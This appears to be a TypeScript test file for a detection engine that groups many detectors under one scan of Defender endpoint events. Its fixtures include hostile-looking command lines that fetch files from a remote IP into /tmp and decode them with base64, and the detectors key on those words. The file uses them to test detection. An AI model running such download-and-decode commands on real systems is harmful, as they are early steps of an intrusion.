/**
 * Detector families: one `matchAll` per event serving many detectors. The members' alerts must be
 * exactly those of the same detectors run one by one; configuration, failures and ids treat the
 * members as detectors.
 */
import { describe, expect, it } from 'vitest';
import { makeEvent } from '../../testing.js';
import { defineDetector } from '../detector/define.js';
import { type DetectorFamily, defineDetectorFamily, isDetectorFamily } from '../detector/family.js';
import type { AnyDetector, Match } from '../detector/types.js';
import type { MdeEvent } from '../model/event.js';
import type { AnalysisResult } from '../report/types.js';
import { analyzeEvents } from './entry.js';

const DEVICE = '875524232b2377b606ca585f2a6692b5be921b94';
const NAME = 'wazuh1.x0rsjvjofsvujdf53bjf3swsje.bx.internal.cloudapp.net';

function process(reportId: number, time: string, file: string, cmd: string): MdeEvent {
  return makeEvent('DeviceProcessEvents', {
    Timestamp: time,
    DeviceId: DEVICE,
    DeviceName: NAME,
    ActionType: 'ProcessCreated',
    ReportId: reportId,
    FileName: file,
    FolderPath: `/usr/bin/${file}`,
    ProcessId: 415000 + reportId,
    ProcessCommandLine: cmd,
    InitiatingProcessFileName: 'dash',
    InitiatingProcessFolderPath: '/usr/bin/dash',
    InitiatingProcessCommandLine: `/bin/sh -c "${cmd}"`,
  });
}

function rows(): MdeEvent[] {
  return [
    process(3321, '2025-11-07T06:46:38.299848Z', 'curl', 'curl -fsSL http://203.0.113.7/x.sh'),
    process(3322, '2025-11-07T06:47:01.22051Z', 'base64', 'base64 -d /tmp/.x'),
    process(3323, '2025-11-07T06:47:09.1Z', 'curl', 'curl -o /tmp/.x http://203.0.113.7/y'),
    process(3324, '2025-11-07T06:48:00Z', 'lsof', 'lsof -a -c java'),
    makeEvent('DeviceNetworkEvents', {
      Timestamp: '2025-11-07T06:48:02Z',
      DeviceId: DEVICE,
      DeviceName: NAME,
      ActionType: 'ConnectionSuccess',
      ReportId: 3325,
      RemoteIP: '203.0.113.7',
      RemotePort: 80,
      InitiatingProcessFileName: 'curl',
    }),
  ];
}

const meta = (id: string, title: string) => ({
  id,
  title,
  summary: 'A process whose command line holds a given word.',
  rationale: 'Downloads and decoding are early steps of an intrusion.',
  severity: 'medium' as const,
  category: 'Execution',
  mitre: ['T1059'],
  tables: ['DeviceProcessEvents' as const],
  actionTypes: ['ProcessCreated'],
  messages: { default: { title: `${title} on {device}`, description: 'Seen {count} time(s).', riskAssessment: 'R' } },
  evidence: { commands: { from: 'ProcessCommandLine', combine: 'distinct' as const, label: 'Command lines' } },
});

/** A member: the command line holds `word`; grouped by file name. */
function member(id: string, title: string, word: string): AnyDetector {
  return defineDetector({
    meta: meta(id, title),
    match: (e) => ((e.str('ProcessCommandLine') ?? '').includes(word) ? { key: e.str('FileName') ?? '' } : undefined),
  }) as AnyDetector;
}

const download = member('fam/download', 'Download tool', 'http://');
const decode = member('fam/decode', 'Decoding', 'base64');
const MEMBERS = [download, decode];

/** The family: one scan of the command line, emits for each member whose word occurs. */
function family(overrides: Partial<DetectorFamily> = {}): DetectorFamily {
  return {
    kind: 'detector-family',
    id: 'words',
    members: MEMBERS,
    tables: ['DeviceProcessEvents'],
    actionTypes: ['ProcessCreated'],
    matchAll: (event, emit) => {
      MEMBERS.forEach((d, i) => {
        const m = d.match!(event, { options: {}, severity: d.meta.severity });
        if (m) emit(i, m as Match);
      });
    },
    ...overrides,
  };
}

/** Another detector on the same table, to prove one bad family costs nobody else. */
const neighbour = defineDetector({
  meta: { ...meta('other/lsof', 'Open files listed'), evidence: {} },
  match: (e) => (e.str('FileName') === 'lsof' ? {} : undefined),
}) as AnyDetector;

const opts = { generatedAt: '2025-11-08T00:00:00.000Z' };
const ids = (r: AnalysisResult) => r.alerts.map((a) => `${a.detectorId} ${a.key} ${a.evidence.eventCount}`);

describe('detector families', () => {
  it('give the same result as their members run as plain detectors', async () => {
    const plain = await analyzeEvents(rows(), { ...opts, detectors: [...MEMBERS, neighbour] });
    const fam = await analyzeEvents(rows(), { ...opts, detectors: [family(), neighbour] });
    expect(ids(plain)).toEqual(['fam/download curl 2', 'fam/decode base64 1', 'other/lsof  1']);
    expect(JSON.stringify(fam)).toBe(JSON.stringify(plain));
    expect(fam.detectors.map((d) => d.id)).toEqual(['fam/decode', 'fam/download', 'other/lsof']);
  });

  it('call matchAll once per routed event, never for other tables or ActionTypes', async () => {
    let calls = 0;
    const f = family();
    await analyzeEvents(rows(), {
      ...opts,
      detectors: [
        {
          ...f,
          matchAll: (e, emit) => {
            calls++;
            f.matchAll(e, emit);
          },
        },
      ],
    });
    expect(calls).toBe(4);
  });

  it('ignore emits for a disabled member and configure members by id', async () => {
    const r = await analyzeEvents(rows(), {
      ...opts,
      detectors: [family()],
      config: { detectors: { 'fam/download': { enabled: false }, 'fam/decode': { severity: 'high' } } },
    });
    expect(ids(r)).toEqual(['fam/decode base64 1']);
    expect(r.alerts[0]!.severity).toBe('high');
    expect(r.diagnostics).toEqual([]);
  });

  it('skip matchAll when every member is disabled', async () => {
    let calls = 0;
    await analyzeEvents(rows(), {
      ...opts,
      detectors: [family({ matchAll: () => void calls++ })],
      config: { detectors: { 'fam/download': { enabled: false }, 'fam/decode': { enabled: false } } },
    });
    expect(calls).toBe(0);
  });

  it('turn a throwing matchAll into a diagnostic; other detectors and earlier emits stand', async () => {
    const f = family();
    const r = await analyzeEvents(rows(), {
      ...opts,
      detectors: [
        {
          ...f,
          matchAll: (e, emit) => {
            f.matchAll(e, emit);
            if (e.str('FileName') === 'base64') throw new Error('index corrupt');
          },
        },
        neighbour,
      ],
    });
    expect(ids(r)).toEqual(['fam/download curl 2', 'fam/decode base64 1', 'other/lsof  1']);
    expect(r.diagnostics.map((d) => [d.code, d.detectorId, d.message, d.reportId])).toEqual([
      ['detector-threw', 'words', 'family words: matchAll threw: Error: index corrupt', '3322'],
    ]);
  });

  it('report an emit for a member the family does not have, and a late emit', async () => {
    let saved: ((i: number, m: Match) => void) | undefined;
    const r = await analyzeEvents(rows(), {
      ...opts,
      detectors: [
        family({
          matchAll: (e, emit) => {
            saved = emit;
            if (e.str('FileName') === 'lsof') emit(2, {});
            if (e.str('FileName') === 'base64') emit(0.5 as number, {});
          },
        }),
        defineDetector({
          meta: {
            ...meta('other/late', 'Late'),
            tables: ['DeviceNetworkEvents'],
            actionTypes: ['ConnectionSuccess'],
            evidence: {},
          },
          match: () => {
            saved!(0, {});
            return undefined;
          },
        }) as AnyDetector,
      ],
    });
    expect(r.alerts).toEqual([]);
    expect(r.diagnostics.map((d) => [d.code, d.detectorId, d.message])).toEqual([
      ['detector-malformed-match', 'words', 'family words: emit names member 0.5, not one of its 2 members (0 to 1)'],
      ['detector-malformed-match', 'words', 'family words: emit names member 2, not one of its 2 members (0 to 1)'],
      ['detector-malformed-match', 'words', 'family words: emit called after matchAll returned; the match is ignored'],
    ]);
  });

  it('read an emitted match like a returned one: a malformed match names the member', async () => {
    const r = await analyzeEvents(rows(), {
      ...opts,
      detectors: [family({ matchAll: (_e, emit) => emit(1, { key: 42 } as unknown as Match) })],
    });
    expect(r.alerts).toEqual([]);
    expect(r.diagnostics[0]).toMatchObject({ code: 'detector-malformed-match', detectorId: 'fam/decode' });
    expect(r.diagnostics[0]!.message).toContain('match.key must be a string');
  });

  it('refuse a member whose id another detector or member has', async () => {
    await expect(analyzeEvents([], { ...opts, detectors: [family(), download] })).rejects.toThrow(
      'two detectors share the id fam/download (members of the family words)',
    );
    await expect(analyzeEvents([], { ...opts, detectors: [family(), family({ id: 'again' })] })).rejects.toThrow(
      /two detectors share the id fam\/(decode|download)/,
    );
    await expect(
      analyzeEvents([], { ...opts, detectors: [family(), family({ members: [neighbour] })] }),
    ).rejects.toThrow('two detector families share the name words');
  });

  it('refuse a configuration naming no detector or member', async () => {
    await expect(
      analyzeEvents([], { ...opts, detectors: [family()], config: { detectors: { 'fam/nope': { enabled: false } } } }),
    ).rejects.toThrow('known: fam/decode, fam/download');
  });

  it('validate the family shape where it is defined', () => {
    expect(isDetectorFamily(family())).toBe(true);
    expect(isDetectorFamily(download)).toBe(false);
    expect(defineDetectorFamily(family())).toMatchObject({ id: 'words' });
    expect(() => defineDetectorFamily(family({ tables: ['NoSuchTable' as 'DeviceProcessEvents'] }))).toThrow(
      'detector family words: tables: must be an array of table names',
    );
    expect(() => defineDetectorFamily(family({ id: 'Bad Name' }))).toThrow('detector family Bad Name: id:');
    expect(() => defineDetectorFamily(family({ members: [download, download] }))).toThrow(
      'two members share the id fam/download',
    );
    expect(() => defineDetectorFamily(family({ actionTypes: [] }))).toThrow('actionTypes');
    expect(() => defineDetectorFamily({ ...family(), matchAll: 'x' } as unknown as DetectorFamily)).toThrow(
      'matchAll: must be a function',
    );
  });
});
